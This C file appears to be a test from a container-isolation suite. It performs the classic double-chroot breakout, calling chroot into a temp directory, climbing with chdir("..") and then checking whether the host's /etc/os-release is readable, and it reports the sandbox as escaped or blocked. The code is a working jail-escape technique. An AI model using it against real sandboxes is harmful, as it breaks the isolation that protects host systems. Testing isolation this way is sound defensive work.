/* escape: chroot-breakout
 * blocked-from: 05
 * explain: the double-chroot trick climbs out of a chroot and reads the host's files
 *
 * The classic breakout, known since the 1990s and still the first thing
 * to try in a chroot-only "jail": root may call chroot(2) again. chroot
 * into a subdirectory without moving the working directory, and "." is
 * now outside the root, so ".." climbs freely up to the real root. A
 * pivot_root'ed container has no outside left to climb to.
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

int main(void)
{
	char name[] = "breakout-XXXXXX";
	int tmp_fd, i;

	tmp_fd = open("/tmp", O_RDONLY | O_DIRECTORY);
	if (tmp_fd < 0 || chdir("/tmp") < 0 || !mkdtemp(name))
		cannot_test("no writable /tmp: %s", strerror(errno));
	if (chroot(name) < 0) { /* the cwd stays outside the new root */
		unlinkat(tmp_fd, name, AT_REMOVEDIR);
		blocked("chroot: %s", strerror(errno));
	}
	for (i = 0; i < 64; i++) /* climb: nothing stops us at the old root */
		if (chdir("..") < 0)
			break;
	chroot(".");
	unlinkat(tmp_fd, name, AT_REMOVEDIR);
	if (!file_mentions("/etc/os-release", "boxes rootfs") &&
	    access("/etc/os-release", R_OK) == 0)
		escaped("out of the chroot: /etc/os-release is the host's");
	blocked("\"..\" stopped at the container's root: /etc/os-release is still the rootfs's");
}
